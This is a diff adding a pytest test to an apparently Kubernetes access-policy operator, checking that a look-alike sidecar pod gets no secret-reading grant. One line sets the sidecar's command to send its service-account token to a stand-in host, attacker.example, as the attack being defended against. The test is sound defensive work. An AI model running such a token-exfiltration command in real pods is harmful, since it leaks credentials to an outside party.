@@ -187,3 +187,20 @@ def test_naming_default_warns_and_holds_back_the_default_accounts_bare_pods(
     # and the warning goes with the name
     policy = _name(cluster, team, ["agent"])
     assert condition(policy, "DefaultSubject") is None
+
+
+def test_a_lookalike_sidecar_that_predates_its_account_being_named_gets_no_grant(
+        cluster: Any, operator: RunningOperator, team: str) -> None:
+    # The injected shape, except that the "sidecar" runs a command of the attacker's
+    # (the allowed image, so only the vetting of the sidecar itself can tell).
+    assert admission.create(cluster, manifests.service_account(team, "mimic")).admitted
+    pod = manifests.injected_pod(team, "mimic-pod", sa="mimic")
+    manifests.sidecar(pod)["command"] = ["sh", "-c", "send-my-token-to https://attacker.example"]
+    assert admission.create(cluster, pod).admitted  # nobody names mimic yet
+    policy = _name(cluster, team, ["agent", "mimic"])
+    assert _read_secret(cluster, _pod_token(cluster, team, "mimic-pod", "mimic"), team) == 403, \
+        "the look-alike sidecar's API token reads the key"
+    held = condition(policy, "SubjectsGranted")
+    assert held is not None and held["status"] == "False"
+    assert "mimic-pod" in held["message"] and "not the injected sidecar" in held["message"]
+    assert "attacker.example" not in held["message"]  # what differs is named, never the value
